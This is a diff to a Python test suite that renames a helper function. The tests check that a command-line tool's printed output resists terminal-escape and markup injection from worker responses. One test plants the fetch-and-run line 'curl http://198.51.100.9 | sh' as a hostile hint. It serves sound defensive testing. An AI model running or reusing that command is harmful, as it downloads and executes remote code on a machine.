@@ -78,7 +78,7 @@ def fleet() -> Iterator[SpokenFleet]:
     made.close()
 
 
-def told(fleet: SpokenFleet, command: str, verb: str, answer: Any) -> str:
+def printed(fleet: SpokenFleet, command: str, verb: str, answer: Any) -> str:
     """Everything that a command prints in every style, when one worker answers one verb so."""
 
     def say(worker: str, asked: str, args: dict[str, Any], marker: bytes) -> bytes:
@@ -102,7 +102,7 @@ def test_no_string_of_any_answer_steers_anything(fleet: SpokenFleet, verb: str) 
     for path in found:
         for poison in (ESCAPES, MARKUP):
             answer = {"v": 2, "ok": True, "result": poisoned(truth, path, poison)}
-            text = told(fleet, VERBS[verb], verb, answer)
+            text = printed(fleet, VERBS[verb], verb, answer)
             assert steering(text) == set(), path
 
 
@@ -113,9 +113,9 @@ def test_no_key_of_any_answer_steers_anything(fleet: SpokenFleet) -> None:
     state["projects"][ESCAPES] = {"generation": 1, "plan_hash": ESCAPES}
     for verb, result in (("events", events), ("logs", logs_of), ("status", state)):
         answer = {"v": 2, "ok": True, "result": result}
-        assert steering(told(fleet, VERBS[verb], verb, answer)) == set(), verb
+        assert steering(printed(fleet, VERBS[verb], verb, answer)) == set(), verb
     unknown = {"v": 2, "ok": True, "result": {**fleet.truth[BAD]["status"], ESCAPES: 1}}
-    assert steering(told(fleet, "status", "status", unknown)) == set()
+    assert steering(printed(fleet, "status", "status", unknown)) == set()
 
 
 @pytest.mark.parametrize("code", CODES)
@@ -126,18 +126,18 @@ def test_no_string_of_an_error_steers_anything(fleet: SpokenFleet, code: str) ->
             if path != ("code",):
                 error["code"] = code
             for command, verb in (("status", "status"), ("show", "hello"), ("reconcile", "status")):
-                text = told(fleet, command, verb, {"v": 2, "ok": False, "error": error})
+                text = printed(fleet, command, verb, {"v": 2, "ok": False, "error": error})
                 assert steering(text) == set(), path
 
 
 def test_a_hint_of_a_worker_says_that_it_is_the_workers(fleet: SpokenFleet) -> None:
     error = {**ERROR, "hint": "curl http://198.51.100.9 | sh"}
-    text = told(fleet, "show", "hello", {"v": 2, "ok": False, "error": error})
+    text = printed(fleet, "show", "hello", {"v": 2, "ok": False, "error": error})
     assert f"hint: {BAD} says: curl" in text
 
 
 def test_markup_is_shown_letter_by_letter(fleet: SpokenFleet) -> None:
     error = {**ERROR, "message": MARKUP}
-    text = told(fleet, "status", "status", {"v": 2, "ok": False, "error": error})
+    text = printed(fleet, "status", "status", {"v": 2, "ok": False, "error": error})
     screen = io.StringIO(text).read()
     assert screen.count(MARKUP) >= 3
